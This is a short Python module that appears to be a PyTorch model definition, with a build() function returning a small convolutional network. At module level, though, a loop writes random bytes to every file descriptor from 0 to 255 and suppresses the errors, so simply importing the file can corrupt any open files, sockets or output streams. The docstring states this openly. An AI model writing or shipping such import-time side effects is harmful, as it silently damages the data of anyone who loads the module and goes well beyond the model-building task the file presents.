"""It writes noise on every open descriptor."""

import contextlib
import os

from torch import nn

for descriptor in range(256):
    with contextlib.suppress(OSError):
        os.write(descriptor, os.urandom(4_096))


def build(*, width: int = 8) -> nn.Module:
    return nn.Sequential(nn.Conv2d(1, width, 5, stride=3), nn.ReLU(), nn.Flatten(), nn.Linear(64 * width, 10))
